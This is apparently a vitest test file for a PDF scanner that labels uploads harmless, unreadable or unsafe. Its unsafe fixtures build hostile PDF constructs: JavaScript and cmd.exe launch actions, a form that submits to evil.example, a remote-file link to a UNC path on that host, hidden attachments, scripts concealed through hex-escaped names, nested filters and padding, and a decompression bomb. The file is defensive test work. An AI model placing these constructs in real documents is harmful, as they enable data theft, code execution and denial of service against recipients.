import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { packed, pdfOf } from '#testing/sample-files.ts';
import { lookIntoPdf } from './look-into-pdf.ts';

const OBJECTS = '/Type /ObjStm /N 1 /First 4';
const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const hidden = Buffer.from(deflateSync(`8 0 ${SCRIPT}`).toString('hex'));
const filtered = (dictionary: string, bytes: Buffer) =>
  Buffer.concat([
    Buffer.from(`7 0 obj << ${dictionary} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream endobj'),
  ]);

/** What /developers/downloads/sample.pdf is made of: partners send it with their first upload. */
const published = new URL('../../../../developers/src/assets/sample.pdf', import.meta.url);

test.each<[string, Buffer]>([
  ['the sample that the pages for developers give away', readFileSync(published)],
  ['an empty page', pdfOf()],
  ['a page with words', pdfOf(packed('/Length 40', 'BT /F1 12 Tf (JavaScript) Tj ET'))],
  ['objects in a stream', pdfOf(packed(OBJECTS, '8 0 << /Type /Outlines /First 9 0 R >>'))],
  [
    'a link, and a page to open at',
    pdfOf(
      '8 0 obj << /S /URI /URI (https://jixu.example) >> endobj',
      '9 0 obj << /OpenAction [3 0 R /Fit] >> endobj',
    ),
  ],
  ['a picture in an old packing', pdfOf(filtered('/Filter /ASCII85Decode', Buffer.from('9jqo^~>')))],
  ['a stream that is damaged', pdfOf(filtered('/Filter /FlateDecode', Buffer.from([0x78, 0x9c, 1, 2, 3])))],
])('harmless: %s', async (_name, pdf) => {
  expect(await lookIntoPdf(pdf)).toBe('harmless');
});

test.each<[string, Buffer]>([
  ['cut off', pdfOf().subarray(0, -20)],
  ['its first line alone', Buffer.from('%PDF-1.7\n')],
  ['encrypted', Buffer.from(pdfOf().toString('latin1').replace('/Size', '/Encrypt 8 0 R /Size'), 'latin1')],
  [
    'encrypted, written otherwise',
    Buffer.from(pdfOf().toString('latin1').replace('/Size', '/Encr#79pt 8 0 R /Size'), 'latin1'),
  ],
])('unreadable: %s', async (_name, pdf) => {
  expect(await lookIntoPdf(pdf)).toBe('unreadable');
});

const action = (body: string) => pdfOf(`8 0 obj << /Type /Action ${body} >> endobj`);

test.each<[string, Buffer]>([
  ['a script', action('/S /JavaScript /JS (app.alert(1))')],
  ['a script whose name is written otherwise', action('/S /J#61vaScript /JS (app.alert(1))')],
  ['a program', action('/S /Launch /F (cmd.exe)')],
  ['an attachment', pdfOf('8 0 obj << /Names << /EmbeddedFiles 9 0 R >> >> endobj')],
  ['an attachment of a note', pdfOf('8 0 obj << /Subtype /FileAttachment >> endobj')],
  ['an attachment that only says so', pdfOf('8 0 obj << /Type /Filespec /EF << /F 9 0 R >> >> endobj')],
  ['a film', pdfOf('8 0 obj << /Subtype /RichMedia >> endobj')],
  ['a form that sends itself', action('/S /SubmitForm /F (https://evil.example)')],
  ['a file somewhere else', action('/S /GoToR /F (\\\\evil.example\\a.pdf)')],
  ['a form of the other kind', pdfOf('8 0 obj << /XFA [(a) 9 0 R] >> endobj')],
  ['a script among packed objects', pdfOf(packed(OBJECTS, `8 0 ${SCRIPT}`))],
  [
    'a script among packed objects, written otherwise',
    pdfOf(packed(OBJECTS, '8 0 << /S /J#61v#61Script >>')),
  ],
  ['a script in a stream that does not say what it is', pdfOf(packed('/N 1', `8 0 ${SCRIPT}`))],
  ['a script after a megabyte', pdfOf(packed(OBJECTS, `${' '.repeat(1 << 20)}${SCRIPT}`))],
  ['a script across two pieces', pdfOf(packed(OBJECTS, `${' '.repeat((1 << 18) - 6)}${SCRIPT}`))],
  [
    'a launch action of packed objects, line ends of another system',
    pdfOf(
      Buffer.from(packed(OBJECTS, '8 0 << /S /Launch >>').toString('latin1').replace('\r\n', '\n'), 'latin1'),
    ),
  ],
  ['objects packed twice', pdfOf(filtered(`${OBJECTS} /Filter [/ASCIIHexDecode /FlateDecode]`, hidden))],
  ['objects packed twice, in short', pdfOf(filtered(`${OBJECTS} /Filter [/Fl /AHx]`, hidden))],
  [
    'objects whose packing is named elsewhere',
    pdfOf(filtered(`${OBJECTS} /Filter 6 0 R`, hidden), '6 0 obj /AHx endobj'),
  ],
  [
    'objects behind a predictor',
    pdfOf(packed(`${OBJECTS} /DecodeParms << /Predictor 12 /Columns 5 >>`, 'x')),
  ],
  ['a bomb', pdfOf(packed('/Length 1', Buffer.alloc(160 << 20)))],
])('X21 unsafe: %s', async (_name, pdf) => {
  expect(await lookIntoPdf(pdf)).toBe('unsafe');
});
